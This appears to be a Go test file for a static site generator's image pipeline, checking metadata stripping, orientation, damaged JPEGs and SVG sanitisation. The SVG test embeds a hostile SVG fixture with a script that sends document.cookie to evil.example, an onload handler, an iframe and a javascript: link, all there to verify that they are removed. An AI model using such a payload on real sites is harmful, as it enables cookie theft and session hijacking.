package pipeline

import (
	"bytes"
	"context"
	"image"
	_ "image/jpeg" // decoding the published copies
	"io/fs"
	"regexp"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/lwa-rotterdam/ezine/generator/internal/testphoto"
	"github.com/lwa-rotterdam/ezine/generator/output"
	"github.com/lwa-rotterdam/ezine/themes"
)

// photoSite is a site with a portrait phone photo (stored 960 x 500 on its
// side, Exif orientation 6: 500 x 960 as shown), with GPS in Exif and XMP,
// a serial number, an artist, IPTC and a comment: as the lead image and in
// the text of a page bundle, and as a static image in a figuur; and a PNG
// with eXIf (orientation 6), tEXt, iTXt and zTXt in static/.
func photoSite(t testing.TB) fstest.MapFS {
	photo := testphoto.JPEG(t, testphoto.Quadrants(500, 960), 6, nil)
	return fstest.MapFS{
		"content/_index.md": {Data: []byte("---\ntitle: Omslag\n---\nWelkom.\n")},
		"content/fotos/kade/index.md": {Data: []byte(`---
title: Aan de kade
weight: 1
image: foto.jpg
image_alt: Een leerling in werkkleding op de kade voor een kraan
---
Tekst.

![Een leerling op de kade](foto.jpg)

::: figuur src="/beelden/foto2.jpg" alt="Dezelfde leerling, van dichtbij"
Van dichtbij.
:::

![Kaart van de kade met de opstapplekken](/beelden/kaart.png)
`)},
		"content/fotos/kade/foto.jpg": {Data: photo},
		"static/beelden/foto2.jpg":    {Data: photo},
		"static/beelden/kaart.png":    {Data: testphoto.PNG(t, testphoto.Quadrants(120, 240), 6, nil)},
	}
}

func buildPhotos(t *testing.T) map[string][]byte {
	t.Helper()
	mem := output.NewMemory()
	_, diags := Run(context.Background(), photoSite(t), mem, Config{Now: testNow, ThemeFS: themes.Ezine(), BaseURL: "https://ezine.example/"})
	if diags.HasErrors() {
		t.Fatalf("build: %v", diags)
	}
	files := map[string][]byte{}
	for _, n := range mem.Names() {
		files[n], _ = mem.Get(n)
	}
	return files
}

// TestPhotosPublishedWithoutMetadata: no file the build publishes, the
// originals included, holds the photos' location, serial number, artist,
// IPTC, comment or PNG text.
func TestPhotosPublishedWithoutMetadata(t *testing.T) {
	files := buildPhotos(t)
	for _, name := range []string{"fotos/kade/foto.jpg", "beelden/foto2.jpg", "beelden/kaart.png", "fotos/kade/foto-480w.jpg"} {
		if _, ok := files[name]; !ok {
			t.Errorf("%s is not published", name)
		}
	}
	for name, b := range files {
		if found := testphoto.PrivateIn(b); len(found) > 0 {
			t.Errorf("%s holds %q", name, found)
		}
		for _, chunk := range []string{"tEXt", "iTXt", "zTXt", "http://ns.adobe.com/xap", "Photoshop 3.0"} {
			if bytes.Contains(b, []byte(chunk)) {
				t.Errorf("%s holds %s", name, chunk)
			}
		}
	}
}

// TestPhotosUpright: the copies of a portrait photo are portrait and show
// it upright, its widths are chosen from its upright width (500: copies at
// 480 and 500, none at 800), and the page and its link preview give the
// upright size.
func TestPhotosUpright(t *testing.T) {
	files := buildPhotos(t)
	want := map[string][2]int{
		"fotos/kade/foto-480w.jpg": {480, 922},
		"fotos/kade/foto-500w.jpg": {500, 960},
		"beelden/foto2-480w.jpg":   {480, 922},
		"beelden/foto2-500w.jpg":   {500, 960},
		"beelden/kaart-120w.png":   {120, 240},
		"beelden/kaart.png":        {120, 240}, // a PNG original is turned too
	}
	for name, size := range want {
		img, _, err := image.Decode(bytes.NewReader(files[name]))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if b := img.Bounds(); b.Dx() != size[0] || b.Dy() != size[1] {
			t.Errorf("%s is %dx%d, want %dx%d", name, b.Dx(), b.Dy(), size[0], size[1])
		}
		if err := testphoto.Upright(img); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	for _, name := range []string{"fotos/kade/foto-800w.jpg", "fotos/kade/foto-960w.jpg"} {
		if _, ok := files[name]; ok {
			t.Errorf("%s was made: wider than the upright photo", name)
		}
	}
	page := string(files["fotos/kade/index.html"])
	imgs := regexp.MustCompile(`<img [^>]*foto[^>]*>`).FindAllString(page, -1)
	if len(imgs) != 3 {
		t.Fatalf("%d photos on the page, want 3 (lead, text, figuur):\n%s", len(imgs), strings.Join(imgs, "\n"))
	}
	for _, img := range imgs {
		if !strings.Contains(img, "width=500") || !strings.Contains(img, "height=960") {
			t.Errorf("not the upright size (500 x 960):\n%s", img)
		}
	}
	for _, meta := range []string{
		`<meta property="og:image" content="https://ezine.example/fotos/kade/foto-500w.jpg">`,
		`<meta property="og:image:width" content="500">`,
		`<meta property="og:image:height" content="960">`,
	} {
		if !strings.Contains(page, meta) {
			t.Errorf("no %s in the page's head", meta)
		}
	}
}

// TestDamagedPhotos: a JPEG missing only its EOI (browsers show it) is
// published, with its EOI; a JPEG cut in half is one error naming it,
// with a hint, not one per copy.
func TestDamagedPhotos(t *testing.T) {
	photo := testphoto.JPEG(t, testphoto.Quadrants(500, 300), 1, nil)
	end := bytes.LastIndex(photo, []byte{0xff, 0xd9})
	page := []byte("---\ntitle: Foto's\n---\n![Een kraan aan de kade](noeoi.jpg)\n")
	fsys := fstest.MapFS{
		"content/fotos/index.md":  {Data: page},
		"content/fotos/noeoi.jpg": {Data: photo[:end]},
	}
	files, _, diags := buildFS(t, fsys, Config{})
	if diags.HasErrors() {
		t.Fatalf("a JPEG without EOI: %v", diags)
	}
	if b := []byte(files["fotos/noeoi.jpg"]); !bytes.HasSuffix(b, []byte{0xff, 0xd9}) {
		t.Error("the published original has no EOI")
	}
	if _, _, err := image.Decode(strings.NewReader(files["fotos/noeoi-480w.jpg"])); err != nil {
		t.Errorf("copy: %v", err)
	}

	fsys["content/fotos/half.jpg"] = &fstest.MapFile{Data: photo[:len(photo)/2]}
	fsys["content/fotos/index.md"] = &fstest.MapFile{Data: append(page, "\n![Een schip in de haven](half.jpg)\n"...)}
	_, _, diags = buildFS(t, fsys, Config{})
	var about []string
	for _, e := range diags.Errors() {
		if e.Path == "content/fotos/half.jpg" {
			about = append(about, e.Error())
		}
	}
	if len(about) != 1 || !strings.Contains(about[0], "cut short") || !strings.Contains(about[0], "(the file is incomplete or damaged") {
		t.Errorf("errors about half.jpg:\n%s\nwant one, saying it is cut short, with a hint", strings.Join(about, "\n"))
	}
}

// TestSVGsSanitised: SVGs from content/ and static/ are published without
// script, event handlers, foreignObject or external references, with a
// warning at the line of each; the theme's clean favicon is untouched.
func TestSVGsSanitised(t *testing.T) {
	evil := []byte("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 40 20\"\n" +
		"  onload=\"alert(document.cookie)\">\n" +
		"<script>fetch('https://evil.example/?c='+document.cookie)</script>\n" +
		"<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/\"/></foreignObject>\n" +
		"<a xlink:href=\"javascript:alert(1)\"><rect width=\"40\" height=\"20\" fill=\"#a3392a\"/></a>\n" +
		"<image href=\"https://evil.example/pixel.png\" width=\"1\" height=\"1\"/>\n" +
		"</svg>\n")
	fsys := fstest.MapFS{
		"content/kaart/index.md":  {Data: []byte("---\ntitle: Kaart\n---\n![Kaart van de haven](kaart.svg)\n\n![Logo van het akkoord](/logo.svg)\n")},
		"content/kaart/kaart.svg": {Data: evil},
		"static/logo.svg":         {Data: evil},
	}
	mem := output.NewMemory()
	_, diags := Run(context.Background(), fsys, mem, Config{Now: testNow, ThemeFS: themes.Ezine()})
	if diags.HasErrors() {
		t.Fatalf("build: %v", diags)
	}
	for _, name := range []string{"kaart/kaart.svg", "logo.svg"} {
		b, _ := mem.Get(name)
		for _, bad := range []string{"script", "onload", "foreignObject", "iframe", "javascript:", "evil.example"} {
			if bytes.Contains(b, []byte(bad)) {
				t.Errorf("%s still holds %s:\n%s", name, bad, b)
			}
		}
		if !bytes.Contains(b, []byte("#a3392a")) {
			t.Errorf("%s lost its drawing:\n%s", name, b)
		}
	}
	var warned []string
	for _, w := range diags.Warnings() {
		warned = append(warned, w.Error())
	}
	all := strings.Join(warned, "\n")
	for _, want := range []string{
		"content/kaart/kaart.svg:2: warning: attribute onload of <svg> (event handler) removed",
		"content/kaart/kaart.svg:3: warning: <script> removed",
		"content/kaart/kaart.svg:4: warning: <foreignObject> removed",
		"content/kaart/kaart.svg:5: warning: attribute xlink:href of <a>",
		"content/kaart/kaart.svg:6: warning: attribute href of <image>",
		"static/logo.svg:3: warning: <script> removed",
	} {
		if !strings.Contains(all, want) {
			t.Errorf("no warning %q in\n%s", want, all)
		}
	}
	favicon, _ := mem.Get("favicon.svg")
	src, err := fs.ReadFile(themes.Ezine(), "static/favicon.svg")
	if err != nil {
		t.Fatal(err)
	}
	if min := minified(t, "favicon.svg", src); len(favicon) == 0 || !bytes.Equal(favicon, min) {
		t.Error("the theme's favicon.svg changed")
	}
}

// minified is what the output writer makes of a file that it publishes
// as it is.
func minified(t *testing.T, name string, data []byte) []byte {
	t.Helper()
	mem := output.NewMemory()
	if err := output.NewWriter(mem).Write(name, data); err != nil {
		t.Fatal(err)
	}
	b, _ := mem.Get(name)
	return b
}
